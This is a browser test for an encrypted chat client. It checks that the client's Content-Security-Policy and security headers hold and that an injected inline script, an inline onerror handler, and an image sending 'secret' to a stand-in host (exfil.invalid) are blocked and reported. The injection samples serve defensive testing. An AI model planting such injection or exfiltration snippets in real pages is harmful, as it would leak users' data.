/**
 * The web client under the relay's Content-Security-Policy, in Debian's Chromium: the page is served
 * with the policy and the security headers, the app registers and connects with no violation, and a
 * script injected into the page (what an HTML-injection bug would give an attacker) neither runs nor
 * sends anything off the relay's origin. The other browser tests run every flow under the same policy
 * (the harness counts each violation as a problem). Skipped with one line when Chromium is missing.
 */
import { describe, expect, it } from 'vitest';
import { browserSuite, DESKTOP, registerOn } from './browser-harness.js';

const suite = browserSuite('chat CSP browser test', { prefix: 'e2ee-chat-csp-' });

describe('the web client under its Content-Security-Policy', () => {
  it.skipIf(!suite.enabled)(
    'runs with no violation, and an injected script or exfiltrating image is blocked and reported',
    async () => {
      const problems: string[] = [];
      const page = await suite.page('csp', DESKTOP, problems);
      const res = await page.request.get(suite.relay.url);
      expect(res.headers()['content-security-policy']).toContain("script-src 'self' 'wasm-unsafe-eval'");
      expect(res.headers()['x-frame-options']).toBe('DENY');
      await registerOn(page, 'csp-alice');
      expect(problems).toEqual([]);

      // WebAssembly compiles (hash-wasm's Argon2 for backups needs it): the smallest valid module.
      const wasm = await page.evaluate(async () => {
        const empty = Uint8Array.of(0x00, 0x61, 0x73, 0x6d, 0x01, 0x00, 0x00, 0x00);
        return (await WebAssembly.compile(empty)) instanceof WebAssembly.Module;
      });
      expect(wasm).toBe(true);

      // What an injection would add: an inline script, an inline handler, and an image that would
      // carry data to another host. None runs or loads; each is reported.
      const ran = await page.evaluate(async () => {
        const w = window as unknown as Record<string, unknown>;
        const seen: string[] = [];
        document.addEventListener('securitypolicyviolation', (e) => seen.push(e.effectiveDirective));
        const script = document.createElement('script');
        script.textContent = 'window.__injected = true';
        document.body.append(script);
        const div = document.createElement('div');
        div.innerHTML = '<img src="blob:null/x" onerror="window.__handler = true">';
        document.body.append(div);
        const img = document.createElement('img');
        img.src = 'http://exfil.invalid/steal?k=secret';
        document.body.append(img);
        // Violation events are queued as tasks: wait until all three came (or give up after a while).
        for (let i = 0; i < 100 && seen.length < 3; i++) await new Promise((r) => setTimeout(r, 20));
        return { script: w['__injected'] === true, handler: w['__handler'] === true, seen: seen.sort() };
      });
      expect(ran.script).toBe(false);
      expect(ran.handler).toBe(false);
      expect(ran.seen).toEqual(['img-src', 'script-src-attr', 'script-src-elem']);
      // The harness saw them too: a violation in any browser test is a failure.
      expect(problems.filter((p) => p.includes('CSP violation'))).toHaveLength(3);
    },
    60_000,
  );
});
